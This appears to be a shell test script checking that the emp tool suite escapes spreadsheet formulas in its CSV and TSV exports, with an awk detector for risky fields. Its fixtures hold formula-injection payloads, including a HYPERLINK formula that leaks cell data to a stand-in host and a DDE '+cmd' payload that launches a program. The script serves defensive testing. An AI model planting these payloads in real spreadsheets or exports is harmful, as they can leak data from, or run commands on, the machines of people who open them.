#!/bin/sh
# The spreadsheet check (emp(7), Spreadsheet safety): a Zendesk export
# whose comments and reasons are formulas (=HYPERLINK, +cmd|, @SUM, -2+3,
# one led by a tab, one by a CR) and whose agent id is -2+3 goes through
# emp-ingest (events, rejects), emp-score (scores, partials), emp-tier
# with a roster, emp-challenge candidates, list, list --stats and apply
# over a signed ledger whose grounds and notes are formulas, and
# emp-report -f text and markdown.  No field of any CSV or TSV output
# starts with = + - @ tab or CR unless it is a number; the marked values
# read back as they were (re-ingesting the events gives the same bytes,
# the marked agent is the roster's agent, the reports show the text);
# --raw-text and EMP_RAW_TEXT=1 give the raw values, which the same check
# catches (so that it can fail).  The ledger holds the text as given.
. "${0%/*}/../lib.sh"

# formulas FILE [tsv]: print every field of FILE that a spreadsheet would
# run (CSV: RFC 4180 quoting; TSV: \t \r \\ escapes)
formulas() {
	awk -v tsv="${2:-}" '
	function risky(v) {
		return v ~ /^[-=+@\t\r]/ &&
		    v !~ /^[-+]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][-+]?[0-9]+)?$/
	}
	function check(v) {
		if (risky(v))
			printf "%s:%d: %s\n", FILENAME, FNR, v
	}
	tsv != "" {
		n = split($0, f, "\t")
		for (k = 1; k <= n; k++) {
			v = f[k]
			gsub(/\\t/, "\t", v); gsub(/\\r/, "\r", v)
			check(v)
		}
		next
	}
	{
		rec = pend != "" ? pend "\n" $0 : $0
		t = rec
		if (gsub(/"/, "", t) % 2 == 1) { pend = rec; next }
		pend = ""
		L = length(rec); i = 1
		while (i <= L + 1) {
			if (substr(rec, i, 1) == "\"") {
				v = ""; i++
				while (i <= L) {
					c = substr(rec, i, 1)
					if (c == "\"") {
						if (substr(rec, i + 1, 1) == "\"") {
							v = v "\""; i += 2; continue
						}
						i++; break
					}
					v = v c; i++
				}
			} else {
				j = index(substr(rec, i), ",")
				if (j == 0) { v = substr(rec, i); i = L + 1 }
				else { v = substr(rec, i, j - 1); i += j - 1 }
			}
			check(v)
			i++
		}
	}' "$1"
}

people
export EMP_LEDGER=l.csv
cr=$(printf '\r')
tab=$(printf '\t')
H=id,url,assignee_id,group_id,requester_id,ticket_id,score,comment,reason,created_at,updated_at
cat >z.csv <<EOF
$H
1,u,-2+3,360001,9001,88231,bad,"=HYPERLINK(""http://x""&A1,""open"")",late delivery,2026-03-02T15:20:11Z,2026-03-02T15:20:11Z
2,u,-2+3,360001,9001,88232,bad,+cmd|' /C calc'!A0,@SUM(1),2026-03-02T15:21:11Z,2026-03-02T15:21:11Z
3,u,-2+3,360001,9001,88233,good,@SUM(1),,2026-03-02T15:22:11Z,2026-03-02T15:22:11Z
4,u,-2+3,360001,9001,88234,bad,-2+3,courier,2026-03-02T15:23:11Z,2026-03-02T15:23:11Z
5,u,ana,360001,9001,88235,bad,$tab=1+1,outage,2026-03-02T15:24:11Z,2026-03-02T15:24:11Z
6,u,ana,360001,9001,88236,bad,"$cr=2+2",=outage,2026-03-02T15:25:11Z,2026-03-02T15:25:11Z
7,u,ana,360001,9001,88237,good,'=kept,,2026-03-02T15:26:11Z,2026-03-02T15:26:11Z
8,u,ana,360001,9001,88238,good,-0.5,,2026-03-02T15:27:11Z,2026-03-02T15:27:11Z
9,u,ana,360001,9001,88239,good,'-,,2026-03-02T15:27:11Z,2026-03-02T15:27:11Z
=10,u,=1+1,360001,9001,88240,meh,@x,,2026-03-02T15:28:11Z,2026-03-02T15:28:11Z
EOF

run 0 emp-ingest -q --rejects rej.csv z.csv
cp out ev.csv
run 0 emp-ingest -q -t z.csv
cp out ev.tsv
# what the comments and agents became (the marks), and the rejected row
check_file ev.csv <<EOF
kind,ts,agent,team,id,contact,customer,channel,queue,talk_s,hold_s,acw_s,avail_s,resolved,escalated,transferred,amount,decision_s,reversed,cost,csat,nps,qa,reviewer,confidence,esat,coach,focus,reason,comment,challenge,src
survey,2026-03-02T15:20:11Z,'-2+3,360001,1,88231,9001,,,,,,,,,,,,,,1,,,,,,,,late delivery,"'=HYPERLINK(""http://x""&A1,""open"")",,z.csv:2
survey,2026-03-02T15:21:11Z,'-2+3,360001,2,88232,9001,,,,,,,,,,,,,,1,,,,,,,,'@SUM(1),'+cmd|' /C calc'!A0,,z.csv:3
survey,2026-03-02T15:22:11Z,'-2+3,360001,3,88233,9001,,,,,,,,,,,,,,5,,,,,,,,,'@SUM(1),,z.csv:4
survey,2026-03-02T15:23:11Z,'-2+3,360001,4,88234,9001,,,,,,,,,,,,,,1,,,,,,,,courier,'-2+3,,z.csv:5
survey,2026-03-02T15:24:11Z,ana,360001,5,88235,9001,,,,,,,,,,,,,,1,,,,,,,,outage,'$tab=1+1,,z.csv:6
survey,2026-03-02T15:25:11Z,ana,360001,6,88236,9001,,,,,,,,,,,,,,1,,,,,,,,'=outage,"'$cr=2+2",,z.csv:7
survey,2026-03-02T15:26:11Z,ana,360001,7,88237,9001,,,,,,,,,,,,,,5,,,,,,,,,'=kept,,z.csv:8
survey,2026-03-02T15:27:11Z,ana,360001,8,88238,9001,,,,,,,,,,,,,,5,,,,,,,,,-0.5,,z.csv:9
survey,2026-03-02T15:27:11Z,ana,360001,9,88239,9001,,,,,,,,,,,,,,5,,,,,,,,,'-,,z.csv:10
EOF
check_file rej.csv <<'EOF'
src,error,raw
z.csv:11,field 'score': unknown rating 'meh',"'=10,u,=1+1,360001,9001,88240,meh,@x,,2026-03-02T15:28:11Z,2026-03-02T15:28:11Z"
EOF

# emp reads its own marks back: the events of the events are the same
# bytes, in CSV and from TSV
run 0 emp-ingest -q ev.csv
check_out ev.csv
run 0 emp-ingest -q ev.tsv
check_out ev.csv
# raw text: the values as emp read the export (its own marks, '=kept and
# '-, dropped: =kept and -), from the export and from the marked events
# alike
run 0 emp-ingest -q --raw-text z.csv
cp out raw.csv
grep -F ',-2+3,360001,1,' raw.csv >/dev/null || fail "raw agent"
grep -F ',"=HYPERLINK(""http://x""&A1,""open"")",' raw.csv >/dev/null ||
    fail "raw comment"
grep -F ",=kept,,z.csv:8" raw.csv >/dev/null || fail "raw =kept"
grep -F ",-,,z.csv:10" raw.csv >/dev/null || fail "raw -"
run 0 emp-ingest -q --raw-text ev.csv
check_out raw.csv
EMP_RAW_TEXT=1 run 0 emp-ingest -q ev.csv
check_out raw.csv
EMP_RAW_TEXT=0 run 0 emp-ingest -q ev.csv
check_out ev.csv
EMP_RAW_TEXT=yes run 2 emp-ingest -q ev.csv
check_out </dev/null
check_err <<'EOF'
emp-ingest: invalid EMP_RAW_TEXT 'yes': use 1 or 0
Try 'emp-ingest --help' for more information.
EOF

# scores and partials; the roster names the agent as typed, -2+3
run 0 emp-score -q --by week ev.csv
cp out sc.csv
grep -F "2026-W10,agent,'-2+3,360001," sc.csv >/dev/null || fail "scores key"
run 0 emp-score -q --by week --partial ev.csv
cp out part.csv
run 0 emp-score -q --by week --merge part.csv
check_out sc.csv
cat >roster-t.csv <<'EOF'
agent,team,hired,level,limit
-2+3,360001,2025-01-01,1,25
ana,360001,2025-01-01,1,25
EOF
run 0 emp-tier -q -r roster-t.csv --as-of 2026-03-08 sc.csv
cp out tiers.csv
grep "^'-2+3,360001,14.1,1,25,1,25,50,hold," tiers.csv >/dev/null ||
    fail "tiers: the marked agent is not the roster's"

# the ledger: grounds and notes that are formulas, a review id too
cat >ev-l.csv <<'EOF'
kind,ts,agent,id,csat,reason,comment
survey,2026-03-02T09:00:00Z,ana,@S1,1,late delivery,"=HYPERLINK(""http://x"")"
survey,2026-03-02T09:00:00Z,bob,S2,1,courier,+cmd|' /C calc'!A0
EOF
clock_at 2026-03-03T10:00:00Z
key ana
emp-challenge open @S1 -e ev-l.csv --grounds '=HYPERLINK("http://x"&A1,"open")' >/dev/null
key bob
emp-challenge open S2 -e ev-l.csv --grounds '@SUM(1)' >/dev/null
key lee
emp-challenge deny CH-1 --note '-2+3' >/dev/null
key ada
emp-challenge approve CH-2 --note "+cmd|' /C calc'!A0" >/dev/null
# the ledger holds the text as given, unmarked
grep -F ',"=HYPERLINK(""http://x""&A1,""open"")",' l.csv >/dev/null ||
    fail "ledger grounds"
clock_at 2026-03-05T10:00:00Z
run 0 emp-challenge list
cp out list.csv
check_out <<'EOF'
challenge,review,kind,agent,cause,status,opened,decided,decider,grounds,note,revoked,revoker,revoke_note,measure,score,proposed_score,approved_score,reassign
CH-1,'@S1,survey,ana,delivery,denied,2026-03-03T10:00:00Z,2026-03-03T10:00:00Z,lee,"'=HYPERLINK(""http://x""&A1,""open"")",'-2+3,,,,,,,,
CH-2,S2,survey,bob,delivery,approved,2026-03-03T10:00:00Z,2026-03-03T10:00:00Z,ada,'@SUM(1),'+cmd|' /C calc'!A0,,,,,,,,
EOF
run 0 emp-challenge list --raw-text
cp out list-raw.csv
grep -F ',lee,"=HYPERLINK(""http://x""&A1,""open"")",-2+3,' list-raw.csv \
    >/dev/null || fail "list --raw-text"
for by in agent cause decider; do
	run 0 emp-challenge list --stats --by $by
	cp out stats-$by.csv
done
run 0 emp-challenge list --stats -t
cp out stats.tsv
run 0 emp-challenge candidates ev.csv
cp out cand.csv
grep -F "4,2026-03-02T15:23:11Z,'-2+3,survey,1,,,courier,'-2+3,courier*," cand.csv \
    >/dev/null || fail "candidates: $(cat cand.csv)"
run 0 emp-challenge candidates -t ev.csv
cp out cand.tsv
run 0 emp-challenge apply -q ev-l.csv
cp out apply.csv
check_out <<'EOF'
kind,ts,agent,id,csat,reason,comment,challenge
survey,2026-03-02T09:00:00Z,ana,'@S1,1,late delivery,"'=HYPERLINK(""http://x"")",
survey,2026-03-02T09:00:00Z,bob,S2,1,courier,'+cmd|' /C calc'!A0,CH-2
EOF
run 0 emp-challenge apply -q apply.csv
check_out apply.csv

# the reports show the text, unmarked
run 0 emp-report -q -f text -a -2+3 sc.csv
grep -F 'Scorecard: -2+3, 2026-W10' out >/dev/null || fail "text scorecard"
grep -F "'-2+3" out && fail "a mark in the text report"
run 0 emp-report -q -f markdown -a -2+3 sc.csv
grep -F '# Scorecard: -2+3, 2026-W10' out >/dev/null || fail "markdown scorecard"
grep -F "'-2+3" out && fail "a mark in the markdown report"

# no CSV or TSV field that a spreadsheet would run, in any output
for f in ev.csv rej.csv sc.csv part.csv tiers.csv list.csv stats-*.csv \
    cand.csv apply.csv; do
	formulas $f
done >found
check_file found </dev/null
for f in ev.tsv stats.tsv cand.tsv; do
	formulas $f tsv
done >found
check_file found </dev/null
# the check catches the raw values
formulas raw.csv >found
[ "$(wc -l <found)" -eq 14 ] || fail "raw.csv: $(cat found)"
formulas list-raw.csv >found
[ "$(wc -l <found)" -eq 5 ] || fail "list-raw.csv: $(cat found)"
